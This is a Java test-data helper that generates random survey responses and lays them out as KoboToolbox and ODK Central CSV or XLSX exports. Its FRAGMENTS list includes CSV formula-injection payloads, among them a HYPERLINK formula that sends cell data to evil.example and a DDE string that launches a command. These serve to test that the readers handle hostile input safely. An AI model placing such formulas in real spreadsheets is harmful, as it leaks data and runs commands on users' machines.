package org.ctnat.io.odk;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import org.ctnat.io.CsvSamples;
import java.util.UUID;
import java.util.function.Function;
import org.ctnat.core.instrument.Instrument;
import org.ctnat.core.questionbank.ChoiceOption;
import org.ctnat.core.questionbank.ChoiceQuestion;
import org.ctnat.core.questionbank.FreeText;
import org.ctnat.core.questionbank.Grid;
import org.ctnat.core.questionbank.GridStatement;
import org.ctnat.core.questionbank.ItemId;
import org.ctnat.core.questionbank.MultipleChoice;
import org.ctnat.core.questionbank.Question;
import org.ctnat.core.questionbank.Ranking;
import org.ctnat.core.questionbank.SingleChoice;
import org.ctnat.core.questionbank.SurveySection;
import org.ctnat.core.response.Answer;
import org.ctnat.core.response.ChoiceAnswer;
import org.ctnat.core.response.PointAnswer;
import org.ctnat.core.response.RankingAnswer;
import org.ctnat.core.response.SelectionAnswer;
import org.ctnat.core.response.SurveyResponse;
import org.ctnat.core.response.TextAnswer;
import org.ctnat.io.Instruments;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;

/**
 * Test data for the submission readers: random valid responses, and a test writer that lays
 * them out as KoboToolbox and ODK Central export them (the column names of {@link OdkNames}, the
 * platforms' metadata columns), as CSV with either separator or as XLSX.
 */
final class SubmissionSamples {

  static final Instrument STANDARD = Instruments.ctnat2016();

  /**
   * The asset uid of the KoboToolbox project of the test exports: KoboToolbox deploys a form under
   * its project's uid, so {@code _xform_id_string} holds it, not the XLSForm's {@code form_id}.
   */
  static final String KOBO_ASSET_UID = "a5fG8uKQdxTHaqJkEzUp2Q";

  /** Pieces of free text, hostile ones included; several are joined into one answer. */
  static final List<String> FRAGMENTS = List.of(
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
      "'", "a; b; c", "a, b, c", "say \"hi\"", "\"", "line one\nline two", "Ünïcödé", "Азербайджан",
      "საქართველო", "emoji 😀", "1", "0", "yes", "uuid:x", "shelters lack funding", "x");

  /** How a test export is laid out. */
  record Style(boolean central, boolean groups, boolean lists, boolean flags, boolean respondentColumn) {

    static final Style KOBO_DEFAULT = new Style(false, true, true, true, true);
    static final Style CENTRAL_SPLIT = new Style(true, true, true, true, false);
    static final Style CENTRAL_PLAIN = new Style(true, true, true, false, false);

    String separator() {
      return groups ? central ? "-" : "/" : "";
    }
  }

  private SubmissionSamples() {}

  static String text(Random random) {
    StringBuilder out = new StringBuilder();
    int pieces = 1 + random.nextInt(3);
    for (int i = 0; i < pieces; i++) {
      out.append(FRAGMENTS.get(random.nextInt(FRAGMENTS.size())));
    }
    return out.toString();
  }

  /** A valid response with a random share of the items answered, selections in option order. */
  static SurveyResponse response(Random random, String id) {
    return CsvSamples.response(random, id, true, true, SubmissionSamples::text);
  }


  /** Valid responses with distinct ids: pseudonymous codes, or uuids when ids come from the instance id. */
  static List<SurveyResponse> responses(long seed, int count, boolean uuids) {
    Random random = new Random(seed);
    List<SurveyResponse> responses = new ArrayList<>();
    for (int r = 0; r < count; r++) {
      String id = uuids ? new UUID(random.nextLong(), random.nextLong()).toString() : "AZEsur" + (r + 1);
      responses.add(response(random, id));
    }
    return responses;
  }

  // ---------------------------------------------------------------- the test writer

  /** One column of a test export: its header and how a response fills it. */
  record Column(String name, Function<SurveyResponse, String> value) {}

  /** The columns of an export, as the platform would lay them out. */
  static List<Column> columns(Style style) {
    List<Column> header = new ArrayList<>();
    if (style.central()) {
      add(header, "SubmissionDate", r -> "2016-05-04T10:23:45.123Z");
    } else {
      add(header, "start", r -> "2016-05-04T10:03:11.000+04:00");
      add(header, "end", r -> "2016-05-04T10:21:40.000+04:00");
    }
    if (style.respondentColumn()) {
      add(header, SubmissionOptions.RESPONDENT_FIELD, r -> r.respondent().id().value());
    }
    String sep = style.separator();
    for (SurveySection section : STANDARD.survey().sections()) {
      String s = OdkNames.section(section.id());
      for (Question question : section.questions()) {
        if (question instanceof Grid grid) {
          for (GridStatement statement : grid.statements()) {
            add(header, path(sep, OdkNames.field(statement.id()), s, OdkNames.grid(grid.id())),
                r -> r.answer(statement.id()).map(a -> ((PointAnswer) a).code()).orElse(""));
          }
          continue;
        }
        ItemId id = question.id();
        String field = path(sep, OdkNames.field(id), s);
        if (question instanceof FreeText) {
          add(header, field, r -> r.answer(id).map(a -> ((TextAnswer) a).text()).orElse(""));
          continue;
        }
        List<ChoiceOption> options = ((ChoiceQuestion) question).options();
        if (question instanceof SingleChoice) {
          add(header, field, r -> r.answer(id).map(a -> ((ChoiceAnswer) a).code()).orElse(""));
        } else if (question instanceof MultipleChoice) {
          if (style.lists()) {
            add(header, field, r -> r.answer(id).map(a -> String.join(" ", ((SelectionAnswer) a).codes()))
                .orElse(""));
          }
          if (style.flags()) {
            for (ChoiceOption option : options) {
              add(header, field + "/" + option.code(), r -> r.answer(id)
                  .map(a -> ((SelectionAnswer) a).codes().contains(option.code()) ? "1" : "0").orElse(""));
            }
          }
        } else {
          Ranking ranking = (Ranking) question;
          for (int k = 1; k <= ranking.maxRanked(); k++) {
            int rank = k;
            add(header, path(sep, OdkNames.rank(id, k), s), r -> r.answer(id)
                .flatMap(a -> ((RankingAnswer) a).atRank(rank)).orElse(""));
          }
        }
        for (ChoiceOption option : options) {
          if (option.specify()) {
            add(header, path(sep, OdkNames.specify(id, option.code()), s),
                r -> r.answer(id).flatMap(a -> specified(a, options, option.code())).orElse(""));
          }
        }
      }
    }
    if (style.central()) {
      add(header, path(sep, "instanceID", "meta"), r -> "uuid:" + r.respondent().id().value());
      add(header, "KEY", r -> "uuid:" + r.respondent().id().value());
      add(header, "SubmitterID", r -> "5");
      add(header, "SubmitterName", r -> "Enumerator Name");
      add(header, "AttachmentsPresent", r -> "0");
      add(header, "AttachmentsExpected", r -> "0");
      add(header, "Status", r -> "");
      add(header, "ReviewState", r -> "approved");
      add(header, "DeviceID", r -> "collect:abc123");
      add(header, "Edits", r -> "0");
      add(header, "FormVersion", r -> STANDARD.version());
    } else {
      add(header, path(sep, "instanceID", "meta"), r -> "uuid:" + UUID.nameUUIDFromBytes(
          r.respondent().id().value().getBytes(StandardCharsets.UTF_8)));
      add(header, "_id", r -> "1234");
      add(header, "_uuid", r -> UUID.nameUUIDFromBytes(r.respondent().id().value()
          .getBytes(StandardCharsets.UTF_8)).toString());
      add(header, "_submission_time", r -> "2016-05-04T06:22:01");
      add(header, "_xform_id_string", r -> KOBO_ASSET_UID);
      add(header, "_validation_status", r -> "");
      add(header, "_notes", r -> "");
      add(header, "_status", r -> "submitted_via_web");
      add(header, "_submitted_by", r -> "enumerator1");
      add(header, "__version__", r -> "vQ8bLk3vJtmjNa8ZQ8dmTr");
      add(header, "_tags", r -> "");
      add(header, "_index", r -> "1");
    }
    return header;
  }

  private static Optional<String> specified(Answer answer, List<ChoiceOption> options, String code) {
    if (answer instanceof ChoiceAnswer a) {
      return a.code().equals(code) ? a.otherText() : Optional.empty();
    }
    List<String> picked = answer instanceof SelectionAnswer a ? a.codes()
        : new ArrayList<>(((RankingAnswer) answer).ranks().keySet());
    Optional<String> text = answer instanceof SelectionAnswer a ? a.otherText() : ((RankingAnswer) answer).otherText();
    String first = options.stream().filter(ChoiceOption::specify).map(ChoiceOption::code).filter(picked::contains)
        .findFirst().orElse(null);
    return code.equals(first) ? text : Optional.empty();
  }

  private static String path(String sep, String leaf, String... groups) {
    return sep.isEmpty() ? leaf : String.join(sep, groups) + sep + leaf;
  }

  private static void add(List<Column> columns, String name, Function<SurveyResponse, String> value) {
    columns.add(new Column(name, value));
  }

  /** The header and rows of an export of these responses. */
  static List<List<String>> export(List<SurveyResponse> responses, Style style) {
    List<Column> columns = columns(style);
    List<List<String>> table = new ArrayList<>();
    table.add(columns.stream().map(Column::name).toList());
    for (SurveyResponse response : responses) {
      table.add(columns.stream().map(c -> c.value().apply(response)).toList());
    }
    return table;
  }

  /** A table as CSV, quoted as RFC 4180 wants where needed. */
  static String csv(List<List<String>> table, char delimiter) {
    StringBuilder out = new StringBuilder();
    for (List<String> row : table) {
      for (int c = 0; c < row.size(); c++) {
        if (c > 0) {
          out.append(delimiter);
        }
        String cell = row.get(c);
        boolean quote = cell.indexOf(delimiter) >= 0 || cell.contains("\"") || cell.contains("\n")
            || cell.contains("\r");
        out.append(quote ? "\"" + cell.replace("\"", "\"\"") + "\"" : cell);
      }
      out.append('\n');
    }
    return out.toString();
  }

  /** A table as an XLSX workbook of one sheet; cells of 0/1 columns and numbers written as numbers. */
  static byte[] xlsx(List<List<String>> table, boolean numbers) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try {
      Workbook workbook = new Workbook(out, "ctnat-test", "1.0");
      Worksheet sheet = workbook.newWorksheet("CT-NAT survey");
      for (int r = 0; r < table.size(); r++) {
        List<String> row = table.get(r);
        for (int c = 0; c < row.size(); c++) {
          String cell = row.get(c);
          if (cell.isEmpty()) {
            continue;
          }
          if (numbers && r > 0 && (cell.equals("0") || cell.equals("1"))) {
            sheet.value(r, c, new BigDecimal(cell));
          } else {
            sheet.value(r, c, cell);
          }
        }
      }
      workbook.finish();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  static String resource(String name) {
    try (InputStream in = SubmissionSamples.class.getResourceAsStream("/org/ctnat/io/odk/submissions/" + name)) {
      if (in == null) {
        throw new IllegalArgumentException("no test resource " + name);
      }
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
